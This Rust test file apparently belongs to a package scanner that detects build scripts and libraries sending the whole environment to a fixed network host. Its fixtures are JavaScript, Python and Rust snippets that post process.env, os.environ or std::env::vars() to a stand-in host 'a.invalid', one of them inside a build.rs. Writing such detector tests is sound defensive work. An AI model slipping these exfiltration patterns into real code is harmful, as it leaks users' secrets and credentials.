use crate::flow::testing::{found, script, wheel};
use crate::unpack::{Entry, text_file};
use customs_model::{SinkKind, SourceKind, Target};

/// Whether the whole environment goes to a place that stands in the package.
fn sends(entries: Vec<Entry>) -> bool {
    found(entries).flows.iter().any(|flow| {
        flow.source == SourceKind::Environment
            && flow.sink == SinkKind::Network
            && matches!(flow.target, Target::Constant(_))
    })
}

fn built(code: &str) -> Vec<Entry> {
    let manifest = "[package]\nname = \"a\"\nversion = \"1.0.0\"\n";
    vec![
        text_file("a-1.0.0/Cargo.toml", manifest),
        text_file("a-1.0.0/build.rs", code),
        text_file("a-1.0.0/src/lib.rs", ""),
    ]
}

#[test]
fn a_client_in_a_field_sends_as_one_in_a_variable_does() {
    let class = |made: &str, used: &str| {
        format!(
            "const axios = require('axios'); const net = require('net');\n\
             class A {{ constructor() {{ this.c = null; {made} }} run() {{ {used} }} }}\n\
             new A().run();"
        )
    };
    let posts = "this.c.post('https://a.invalid/b', process.env);";
    for (made, used) in [
        ("this.c = axios.create();", posts),
        ("this.c = axios;", posts),
        (
            "this.c = axios.create({ baseURL: 'https://a.invalid' });",
            "const c = this.c; c.post('/b', process.env);",
        ),
        (
            "this.c = net.connect(1, 'a.invalid');",
            "this.c.write(JSON.stringify(process.env));",
        ),
    ] {
        assert!(sends(script(&class(made, used))), "{made} {used}");
    }
    // One edge changed: something else may stand in the field, or nothing is put into it.
    for made in [
        "this.c = axios.create(); this.c = make();",
        "this.d = axios;",
    ] {
        assert!(!sends(script(&class(made, posts))), "{made}");
    }
}

#[test]
fn functions_that_make_objects_and_classes_above_have_fields_too() {
    let function = "const axios = require('axios');\n\
         function A() { this.c = axios.create(); }\n\
         A.prototype.run = function () { this.c.post('https://a.invalid', process.env); };\n\
         new A().run();";
    let above = "const axios = require('axios');\n\
         class B { constructor() { this.c = axios.create(); } }\n\
         class A extends B { run() { this.c.post('https://a.invalid', process.env); } }\n\
         new A().run();";
    let emitter = "const axios = require('axios'); const { EventEmitter } = require('events');\n\
         class A extends EventEmitter {\n\
           constructor() { super(); this.c = axios.create(); }\n\
           run() { this.c.post('https://a.invalid', process.env); }\n\
         }\n\
         new A().run();";
    for code in [function, above, emitter] {
        assert!(sends(script(code)), "{code}");
        let other = code.replace("axios.create()", "make()");
        assert!(!sends(script(&other)), "{other}");
    }
}

#[test]
fn a_session_in_a_field_of_python_sends() {
    let code = "import os\nimport requests\n\
         class A:\n    def __init__(self):\n        self.s = requests.Session()\n    \
         def run(self):\n        self.s.post('https://a.invalid', json=dict(os.environ))\n\
         A().run()\n";
    assert!(sends(wheel(code)));
    assert!(!sends(wheel(&code.replace("requests.Session()", "make()"))));
}

#[test]
fn what_a_value_of_rust_is_made_with_stands_in_its_fields() {
    let client = "struct A { c: reqwest::blocking::Client }\n\
         impl A { fn run(&self) { let e: Vec<_> = std::env::vars().collect();\n\
           self.c.post(\"https://a.invalid\").json(&e).send().unwrap(); } }\n\
         fn main() { A { c: reqwest::blocking::Client::new() }.run(); }";
    let data = "struct A(Vec<(String, String)>);\n\
         impl A { fn run(&self) { ureq::post(\"https://a.invalid\").send_json(&self.0); } }\n\
         fn main() { A(std::env::vars().collect()).run(); }";
    assert!(sends(built(client)));
    assert!(sends(built(data)));
    assert!(!sends(built(
        &client.replace("reqwest::blocking::Client::new()", "make()")
    )));
    assert!(!sends(built(
        &data.replace("std::env::vars().collect()", "Vec::new()")
    )));
}
